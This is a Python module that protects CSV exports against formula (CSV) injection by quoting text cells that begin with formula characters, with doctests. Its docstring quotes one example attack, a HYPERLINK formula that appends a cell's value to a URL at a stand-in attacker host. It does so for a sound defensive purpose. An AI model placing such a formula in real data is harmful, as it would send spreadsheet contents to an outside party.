"""CSV that a spreadsheet opens as data, never as formulas (CSV injection).

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a formula, and drop a
leading tab or carriage return before doing so; a customer named `=HYPERLINK("https://evil.example/?"&A2;"Open")`
would otherwise turn a marketer's export into a link that sends their sheet away. As OWASP advises, every CSV the
engine writes goes through this module, which prefixes such a text cell with a single quote: the spreadsheet
shows the text as typed, and a program reading the file sees the quote. Numbers are written as numbers (a negative
amount stays `-12.5`): only text can carry a formula.

Pure: text in, text out; the caller decides where it goes (a file, an HTTP response).
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterable, Iterator, Sequence
from typing import Final, TextIO

FORMULA_STARTS: Final[tuple[str, ...]] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate a cell (OWASP's list)."""


def csv_cell(value: object) -> str:
    """One cell as text a spreadsheet will not evaluate; None is an empty cell.

    >>> csv_cell('=1+1'), csv_cell('@SUM(A1)'), csv_cell(-12.5), csv_cell('-12.5'), csv_cell(None)
    ("'=1+1", "'@SUM(A1)", '-12.5', "'-12.5", '')
    """
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_row(values: Iterable[object]) -> list[str]:
    return [csv_cell(value) for value in values]


def csv_lines(header: Sequence[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The CSV text line by line (RFC 4180: quoted as needed, CRLF line ends), for a streamed response.

    >>> list(csv_lines(["id", "name"], [["c1", "=1+2"], ["c2", "Ann, Bob"]]))
    ['id,name\\r\\n', "c1,'=1+2\\r\\n", 'c2,"Ann, Bob"\\r\\n']
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for values in itertools.chain((header,), rows):
        writer.writerow(csv_row(values))
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Iterable[object]]) -> int:
    """Write a header and rows to `out` (a file opened with `newline=""`); returns how many rows were written."""
    lines = csv_lines(header, rows)
    out.write(next(lines))
    count = 0
    for count, line in enumerate(lines, start=1):  # noqa: B007 - the last index is the count
        out.write(line)
    return count
